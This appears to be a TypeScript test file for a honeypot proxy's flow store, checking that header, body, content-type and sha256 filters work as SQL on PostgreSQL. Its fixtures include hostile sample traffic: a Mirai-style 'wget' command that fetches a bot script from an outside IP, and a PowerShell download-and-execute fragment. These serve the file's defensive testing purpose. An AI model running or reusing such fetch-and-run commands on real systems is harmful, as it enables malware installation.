/**
 * The header, body, content-type and hash operators on real PostgreSQL: each finds exactly the flows
 * carrying the distinctive header or body, `!` is their complement, a content-encoded body is searched
 * as stored (compressed), `~a` agrees with the browser predicate, and a body search that runs past
 * its statement_timeout ends as a FilterTimeoutError instead of holding the connection.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { gzipSync } from 'node:zlib';
import { compileFilter, parseFilter, type FlowSummary } from '@honeyproxy/protocol';
import { sampleFlow } from '@honeyproxy/testkit';
import { createFlowStore, FilterTimeoutError, type FlowStore } from './flow-store.js';
import { sha256Hex } from './prepare-flow.js';
import {
  createMigratedDatabase,
  silentLogger,
  type MigratedDatabase,
} from '../testing/migrated-database.js';

type Sample = ReturnType<typeof sampleFlow>;

function build(): Record<string, Sample> {
  const bot = sampleFlow({
    url: 'http://c2.test/gate.php',
    requestBody: Buffer.from('cmd=wget http://198.51.100.7/bins.sh'),
    responseBody: Buffer.from('<html>hello</html>'),
  });
  bot.flow.request.headers.push(['X-Bot', 'mirai']);
  const cookie = sampleFlow({
    url: 'http://shop.test/api',
    requestBody: Buffer.from('{"a":1}'),
    responseBody: gzipSync(Buffer.from('secretword '.repeat(20))),
    responseHeaders: [
      ['Content-Type', 'text/plain'],
      ['Content-Encoding', 'gzip'],
      ['Set-Cookie', 'PHPSESSID=evilcookie'],
    ],
  });
  cookie.flow.request.headers.push(['Content-Type', 'application/json']);
  const binary = sampleFlow({
    url: 'http://cdn.test/app.js',
    responseBody: Buffer.from([0x4d, 0x5a, 0x00, 0xff, 0x5c, 0x41]), // MZ NUL 0xff \ A
    responseHeaders: [['Content-Type', 'application/javascript']],
  });
  const refused = sampleFlow({ url: 'http://down.test/', noResponse: true });
  const script = sampleFlow({
    url: 'http://img.test/x.png',
    responseBody: Buffer.from('IEX (New-Object Net.WebClient); powershell -enc AAAA'),
    responseHeaders: [['Content-Type', 'image/png']],
  });
  return { bot, cookie, binary, refused, script };
}

describe('header and body filters in SQL', { timeout: 120_000 }, () => {
  let mdb: MigratedDatabase;
  let store: FlowStore;
  let all: FlowSummary[];
  const flows = build();
  const idOf = (name: string) => flows[name]!.flow.flowId;

  before(async () => {
    mdb = await createMigratedDatabase();
    store = createFlowStore({ db: mdb.db, log: silentLogger() });
    await store.insertBatch(
      Object.values(flows).map((s) => ({ sensorId: 'gw-1', flow: s.flow, bodies: s.refBodies })),
    );
    all = (await store.list({ limit: 1000 })).flows;
  });
  after(() => mdb.close());

  async function names(q: string): Promise<string[]> {
    const page = await store.list({ limit: 1000, filter: parseFilter(q) });
    const byId = new Map(Object.entries(flows).map(([n, s]) => [s.flow.flowId, n]));
    return page.flows.map((f) => byId.get(f.id) ?? f.id).sort();
  }

  it('matches header lines "name: value", per side, case-insensitively', async () => {
    assert.deepEqual(await names('~hq "^x-bot: mirai$"'), ['bot']);
    assert.deepEqual(await names('~hq X-BOT'), ['bot']);
    assert.deepEqual(await names('~hs x-bot'), []);
    assert.deepEqual(await names('~h x-bot'), ['bot']);
    assert.deepEqual(await names('~hs "^set-cookie: .*evil"'), ['cookie']);
    assert.deepEqual(await names('~h evilcookie'), ['cookie']);
    // Each line on its own: ^ and $ anchor at a header line, as with mitmproxy's MULTILINE.
    assert.deepEqual(await names('~hq "^host: shop"'), ['cookie']);
  });

  it('treats a flow without a response as having no response headers or body', async () => {
    assert.deepEqual(await names('!~hs .'), ['refused']);
    assert.deepEqual(await names('~q & ~hq "^host:"'), ['refused']);
    assert.deepEqual(await names('!~bs .'), ['refused']);
  });

  it('searches bodies per side as stored, compressed bodies unexpanded', async () => {
    assert.deepEqual(await names('~bq wget'), ['bot']);
    assert.deepEqual(await names('~bs wget'), []);
    assert.deepEqual(await names('~b wget'), ['bot']);
    assert.deepEqual(await names('~b "powershell -enc"'), ['script']);
    assert.deepEqual(await names('~b secretword'), []); // gzip: the stored bytes are compressed
    assert.deepEqual(await names('!~b wget').then((n) => n.length), all.length - 1);
  });

  it('shows NUL and high bytes as octal escapes and doubles backslashes', async () => {
    assert.deepEqual(await names('~bs "^MZ\\\\000\\\\377\\\\\\\\A$"'), ['binary']);
  });

  it('matches full Content-Type values per side, parameters included', async () => {
    assert.deepEqual(await names('~tq json'), ['cookie']);
    assert.deepEqual(await names('~ts charset=utf-8'), ['bot']);
    assert.deepEqual(await names('~t charset'), []); // ~t is the declared type without parameters
    assert.deepEqual(await names('~ts javascript'), ['binary']);
  });

  it('finds a body by sha256 on either side', async () => {
    const requestSha = sha256Hex(Buffer.from('cmd=wget http://198.51.100.7/bins.sh'));
    assert.deepEqual(await names(`~sha256 ${requestSha}`), ['bot']);
    assert.deepEqual(await names(`~sha256 ${requestSha.toUpperCase()}`), ['bot']);
    const record = await store.get(idOf('script'));
    assert.deepEqual(await names(`~sha256 ${record?.response?.body?.sha256 ?? ''}`), ['script']);
    assert.deepEqual(await names(`!~sha256 ${requestSha}`).then((n) => n.length), all.length - 1);
  });

  it('agrees with the browser predicate on ~a and its combinations', async () => {
    for (const q of ['~a', '!~a', '~a ~d img', '~a | ~q']) {
      const expected = all
        .filter(compileFilter(parseFilter(q)))
        .map((f) => f.id)
        .sort();
      const got = (await store.list({ limit: 1000, filter: parseFilter(q) })).flows
        .map((f) => f.id)
        .sort();
      assert.deepEqual(got, expected, q);
    }
    assert.deepEqual(await names('~a'), ['binary', 'script']);
  });

  it('answers only for the flow ids asked about', async () => {
    const page = await store.list({
      limit: 100,
      filter: parseFilter('~b .'),
      ids: [idOf('bot'), idOf('refused')],
    });
    assert.deepEqual(
      page.flows.map((f) => f.id),
      [idOf('bot')],
    );
  });

  it('ends a body search that runs past the statement timeout with a FilterTimeoutError', async () => {
    const big = Array.from({ length: 8 }, (_, i) =>
      sampleFlow({ responseBody: Buffer.alloc(4 * 1024 * 1024, 0x61 + i) }),
    );
    await store.insertBatch(
      big.map((s) => ({ sensorId: 'gw-1', flow: s.flow, bodies: s.refBodies })),
    );
    const hasty = createFlowStore({ db: mdb.db, log: silentLogger(), filterTimeoutMs: 20 });
    const started = Date.now();
    await assert.rejects(
      hasty.list({ limit: 10, filter: parseFilter('~b "(a|b|c)*z$"') }),
      FilterTimeoutError,
    );
    assert.ok(Date.now() - started < 10_000);
    // The connection is usable afterwards: the timeout was local to that transaction.
    assert.equal((await hasty.list({ limit: 1000 })).flows.length, all.length + big.length);
  });
});
